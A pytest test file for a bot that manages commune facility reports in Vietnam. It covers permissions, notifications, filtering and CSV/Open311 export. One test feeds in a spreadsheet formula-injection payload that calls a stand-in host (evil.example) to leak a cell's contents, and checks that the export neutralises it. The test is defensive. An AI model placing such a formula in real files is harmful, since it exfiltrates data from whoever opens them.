"""Facility reports: officials file for their own commune, leaders move them with a note and the commune hears of
it, a fixed one can be reopened with a photo; nobody else can do any of it."""

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from bot.people import Person
from bot.report_export import Exporter, signature, signed
from bot.reports import Draft, NotAllowed, ReportFilter, ReportService, State, read_filter, report_number
from bot.roles import Role, RolesService
from storage.centres import CentresRepo
from storage.db import Database
from storage.people import PeopleRepo
from storage.reports import DraftsRepo, ReportsRepo
from storage.roles import RolesRepo

NOW = datetime(2025, 8, 4, 2, 0, tzinfo=UTC)
ADMIN = Person("telegram", "1")
OFFICIAL = Person("telegram", "7001")
NEIGHBOUR = Person("telegram", "7002")  # an official of another commune
LEADER = Person("zalo", "leader-1")
CITIZEN = Person("telegram", "7009")
DRAFT = Draft("utilities", "high", "Mất điện từ sáng, máy lấy số không chạy.", ("photo-1", "photo-2"))


@pytest.fixture
async def reports(db: Database, centres_repo: CentresRepo) -> ReportService:
    roles = RolesService(RolesRepo(db), PeopleRepo(db), frozenset({ADMIN}))
    for person, role, commune in ((OFFICIAL, Role.OFFICIAL, "06385"), (NEIGHBOUR, Role.OFFICIAL, "06076")):
        await roles.redeem(person, (await roles.invite(role, commune, "cli", NOW)).code, NOW)
    await roles.redeem(LEADER, (await roles.invite(Role.LEADER, None, "cli", NOW)).code, NOW)
    return ReportService(ReportsRepo(db), PeopleRepo(db), roles, DraftsRepo(db))


async def outbox(db: Database) -> list[tuple[str, str, dict[str, object]]]:
    rows = await db.fetchall(
        "SELECT p.external_id, o.kind, o.payload FROM outbox o JOIN people p ON p.id = o.person_id ORDER BY o.id"
    )
    return [(row[0], row[1], json.loads(row[2])) for row in rows]


async def test_an_official_files_for_their_commune_with_a_target(reports: ReportService, db: Database) -> None:
    report = await reports.file(OFFICIAL, DRAFT, NOW)
    assert (report.number, report.commune_code, report.state, report.photos) == ("BC-000001", "06385", State.NEW, 2)
    assert report.target_at == NOW + timedelta(days=3)  # electricity, water, toilets: three days
    assert not report.past_target(NOW + timedelta(days=3)) and report.past_target(NOW + timedelta(days=3, seconds=1))
    assert await outbox(db) == []  # only a report that stops service alerts the leaders
    assert (await reports.open_duplicate(OFFICIAL, "utilities")) == report
    assert await reports.open_duplicate(NEIGHBOUR, "utilities") is None


async def test_a_report_that_stops_service_alerts_every_leader_at_once(reports: ReportService, db: Database) -> None:
    await reports.file(OFFICIAL, Draft("it", "blocking", "Mạng mất, không tiếp nhận được hồ sơ."), NOW)
    [(leader, kind, payload)] = await outbox(db)
    assert (leader, kind) == ("leader-1", "report_blocking")
    assert payload["commune"] == "Xã Hữu Lũng"
    row = await db.fetchone("SELECT urgent FROM outbox")
    assert row is not None and row["urgent"] == 1


async def test_leaders_move_reports_and_the_commune_is_told(reports: ReportService, db: Database) -> None:
    report = await reports.file(OFFICIAL, DRAFT, NOW)
    moved = await reports.move(LEADER, report.id, State.IN_PROGRESS, "Điện lực đang sửa.", NOW + timedelta(hours=1))
    assert moved.state is State.IN_PROGRESS
    fixed = await reports.move(ADMIN, report.id, State.FIXED, "", NOW + timedelta(days=1))
    assert fixed.closed_at == NOW + timedelta(days=1) and not fixed.is_open
    messages = [(who, kind, payload["state"], payload["note"]) for who, kind, payload in await outbox(db)]
    assert messages == [
        ("7001", "report_moved", "in_progress", "Điện lực đang sửa."),
        ("7001", "report_moved", "fixed", None),
    ]
    with pytest.raises(ValueError, match="cannot move"):
        await reports.move(LEADER, report.id, State.CANNOT_FIX, "", NOW)  # closed: only the commune reopens it


async def test_the_commune_reopens_a_fixed_report_with_a_photo(reports: ReportService) -> None:
    report = await reports.file(OFFICIAL, DRAFT, NOW)
    await reports.move(LEADER, report.id, State.FIXED, "Đã thay cầu dao.", NOW + timedelta(days=1))
    with pytest.raises(ValueError, match="photo"):
        await reports.reopen(OFFICIAL, report.id, "Vẫn mất điện.", "", NOW + timedelta(days=2))
    with pytest.raises(NotAllowed):
        await reports.reopen(NEIGHBOUR, report.id, "?", "photo-x", NOW + timedelta(days=2))
    again = await reports.reopen(OFFICIAL, report.id, "Vẫn mất điện.", "photo-3", NOW + timedelta(days=2))
    assert (again.state, again.photos, again.closed_at) == (State.NEW, 3, None)
    assert again.target_at == NOW + timedelta(days=5)  # the clock restarts
    kinds = [row["kind"] for row in await reports.repo.events(report.id)]
    assert kinds == ["created", "moved", "reopened"]


async def test_nobody_else_may_file_move_or_see(reports: ReportService) -> None:
    report = await reports.file(OFFICIAL, DRAFT, NOW)
    for person in (CITIZEN, LEADER, ADMIN):
        with pytest.raises(NotAllowed):
            await reports.file(person, DRAFT, NOW)
    for person in (CITIZEN, OFFICIAL, NEIGHBOUR):
        with pytest.raises(NotAllowed):
            await reports.move(person, report.id, State.RECEIVED, "", NOW)
        if person != OFFICIAL:
            with pytest.raises(NotAllowed):
                await reports.add_to(person, report.id, DRAFT, NOW)
    with pytest.raises(NotAllowed):
        await reports.open_reports(CITIZEN, NOW)
    with pytest.raises(NotAllowed):
        await reports.open_report(OFFICIAL, report.id)
    with pytest.raises(NotAllowed):
        await reports.move(LEADER, 999, State.RECEIVED, "", NOW)  # the same answer as for one they may not see
    assert [r.number for r in (await reports.of_my_commune(OFFICIAL))[0]] == ["BC-000001"]
    assert await reports.of_my_commune(NEIGHBOUR) == ([], 0)
    assert [r.number for r in await reports.open_reports(LEADER, NOW)] == ["BC-000001"]
    assert (await reports.open_report(LEADER, report.id)).number == "BC-000001"


async def test_leaders_filter_open_reports(reports: ReportService) -> None:
    power = await reports.file(OFFICIAL, DRAFT, NOW)  # due in 3 days
    rooms = await reports.file(OFFICIAL, Draft("rooms", "medium", "Phòng một cửa chật."), NOW)  # 30 days
    kitchen = await reports.file(NEIGHBOUR, Draft("kitchen", "low", "Chưa có bếp ăn."), NOW)
    fixed = await reports.file(NEIGHBOUR, Draft("it", "high", "Mất mạng."), NOW)
    await reports.move(LEADER, fixed.id, State.FIXED, "", NOW)

    async def numbers(wanted: ReportFilter | None, now: datetime = NOW) -> list[int]:
        assert wanted is not None
        return [r.id for r in await reports.open_reports(LEADER, now, wanted)]

    def communes(text: str) -> str | None:
        return {"Hữu Lũng": "06385"}.get(text)

    assert await numbers(read_filter("", communes)) == [power.id, rooms.id, kitchen.id]
    assert await numbers(read_filter("quá hạn", communes), NOW + timedelta(days=4)) == [power.id]
    assert await numbers(read_filter("overdue", communes), NOW + timedelta(days=31)) == [power.id, rooms.id, kitchen.id]
    assert await numbers(read_filter("Điện", communes)) == [power.id]
    assert await numbers(read_filter("kitchen", communes)) == [kitchen.id]
    assert await numbers(read_filter("phong", communes)) == [rooms.id]  # without diacritics
    assert await numbers(read_filter("Hữu Lũng", communes)) == [power.id, rooms.id]
    assert read_filter("xyz", communes) is None
    with pytest.raises(NotAllowed):
        await reports.open_report(LEADER, fixed.id)  # closed: nothing to move


async def test_adding_to_an_open_report_and_bad_drafts(reports: ReportService) -> None:
    report = await reports.file(OFFICIAL, DRAFT, NOW)
    more = await reports.add_to(OFFICIAL, report.id, Draft("utilities", "high", "Thêm ảnh.", ("p3",)), NOW)
    assert more.photos == 3
    for bad, why in (
        (Draft("kitchen", "urgent", "x"), "severity"),
        (Draft("pool", "low", "x"), "category"),
        (Draft("kitchen", "low", "   "), "description"),
        (Draft("kitchen", "low", "x", tuple(f"p{i}" for i in range(6))), "photos"),
        (Draft("kitchen", "low", "x", lat=21.8), "coordinates"),
    ):
        with pytest.raises(ValueError, match=why):
            await reports.file(OFFICIAL, bad, NOW)


def test_report_numbers() -> None:
    assert report_number(123) == "BC-000123"


async def export(reports: ReportService, form: str, **options: str) -> str:
    def names(code: str) -> str:
        return {"06385": "Xã Hữu Lũng", "06076": "Phường Tam Thanh"}.get(code, code)

    out = io.StringIO()
    exporter = Exporter(ZoneInfo("Asia/Ho_Chi_Minh"), names, **options)
    exporter.write(await reports.export(), form, out)
    return out.getvalue()


async def test_export_as_csv_and_as_open311(reports: ReportService) -> None:
    draft = replace(DRAFT, photos=("tg-file-1", "https://zalo.example/p/2.jpg"), lat=21.68, lon=106.35)
    fixed = await reports.file(OFFICIAL, draft, NOW)
    await reports.move(LEADER, fixed.id, State.FIXED, "Đã thay cầu dao.", NOW + timedelta(hours=5))
    waiting = await reports.file(NEIGHBOUR, Draft("kitchen", "low", 'Chưa có bếp, "tạm" nấu nhờ.'), NOW)

    rows = list(csv.DictReader(io.StringIO(await export(reports, "csv"))))
    assert [row["so_bao_cao"] for row in rows] == ["BC-000001", "BC-000002"]
    first, second = rows
    assert (first["ten_xa"], first["ten_loai"], first["ten_muc_do"]) == (
        "Xã Hữu Lũng",
        "Điện, nước, nhà vệ sinh",
        "Cao",
    )
    assert (first["trang_thai"], first["ten_trang_thai"], first["ghi_chu_cuoi"]) == (
        "fixed",
        "đã khắc phục",
        "Đã thay cầu dao.",
    )
    assert first["ngay_bao_cao"] == "2025-08-04T09:00:00+07:00"  # in the province's time
    assert first["ngay_dong"] == "2025-08-04T14:00:00+07:00" and first["han_khac_phuc"] == "2025-08-07T09:00:00+07:00"
    assert (first["vi_do"], first["kinh_do"], first["so_anh"]) == ("21.68", "106.35", "2")
    assert first["anh"] == "https://zalo.example/p/2.jpg"  # without a public URL, only a photo kept as a URL
    assert second["mo_ta"] == 'Chưa có bếp, "tạm" nấu nhờ.' and second["ngay_dong"] == "" and second["vi_do"] == ""

    key = "ingest-token-0123456789abcdef"
    requests = json.loads(await export(reports, "open311", public_url="https://phucvu.example.vn/", key=key))
    done, open_one = requests
    assert done["service_request_id"] == "BC-000001" and done["status"] == "closed"
    assert done["status_notes"] == "đã khắc phục: Đã thay cầu dao."
    assert (done["service_code"], done["service_name"]) == ("utilities", "Điện, nước, nhà vệ sinh")
    assert (done["lat"], done["long"], done["address_id"]) == (21.68, 106.35, "06385")
    assert done["requested_datetime"] == "2025-08-04T09:00:00+07:00"
    assert done["updated_datetime"] == "2025-08-04T14:00:00+07:00"
    assert done["expected_datetime"] == "2025-08-07T09:00:00+07:00"
    signature_of_1 = signature(key, fixed.id, 1)
    assert done["media_url"] == f"https://phucvu.example.vn/media/reports/1/1/{signature_of_1}"
    assert done["extended_attributes"]["media_urls"] == [done["media_url"], "https://zalo.example/p/2.jpg"]
    assert signed(key, fixed.id, 1, signature_of_1) and not signed(key, fixed.id, 2, signature_of_1)
    assert not signed("", fixed.id, 1, signature_of_1)
    assert open_one["status"] == "open" and open_one["status_notes"] == "mới" and open_one["media_url"] is None
    assert open_one["service_request_id"] == report_number(waiting.id)
    assert {"lat", "long", "description", "agency_responsible", "zipcode"} <= set(open_one)
    assert [r.report.id for r in await reports.export(open_only=True)] == [waiting.id]
    with pytest.raises(ValueError, match="unknown format"):
        Exporter(ZoneInfo("UTC"), str).write([], "xml", io.StringIO())


async def test_category_words_match_at_the_start_of_a_word(reports: ReportService) -> None:
    assert read_filter("IT", lambda text: None) == ReportFilter(categories=frozenset({"it"}))  # not kitchen
    assert read_filter("bếp", lambda text: None) == ReportFilter(categories=frozenset({"kitchen"}))


async def test_the_export_is_safe_for_spreadsheets_and_notes_are_the_leaders(reports: ReportService) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem ảnh")'
    report = await reports.file(OFFICIAL, Draft("it", "low", formula), NOW)
    await reports.move(LEADER, report.id, State.IN_PROGRESS, "Đã liên hệ nhà mạng.", NOW)
    await reports.add_to(OFFICIAL, report.id, Draft("it", "low", "Hôm nay mất hẳn mạng."), NOW)
    [row] = list(csv.DictReader(io.StringIO(await export(reports, "csv"))))
    assert row["mo_ta"] == "'" + formula  # a spreadsheet shows it as text, never runs it
    assert row["ghi_chu_cuoi"] == "Đã liên hệ nhà mạng."  # the leader's, not the commune's addition
    [request] = json.loads(await export(reports, "open311"))
    assert request["status_notes"] == "đang xử lý: Đã liên hệ nhà mạng." and request["description"] == formula


async def test_submit_adds_or_files(reports: ReportService) -> None:
    report = await reports.file(OFFICIAL, DRAFT, NOW)
    added = await reports.submit(OFFICIAL, Draft("utilities", "low", "Thêm."), report.id, NOW)
    assert (added.report.id, added.added, added.meant_for) == (report.id, True, None)
    await reports.move(LEADER, report.id, State.FIXED, "", NOW)
    filed = await reports.submit(OFFICIAL, Draft("utilities", "low", "Lại mất điện."), report.id, NOW)
    assert (filed.added, filed.meant_for) == (False, report.id) and filed.report.id != report.id
    with pytest.raises(NotAllowed):
        await reports.submit(CITIZEN, DRAFT, None, NOW)
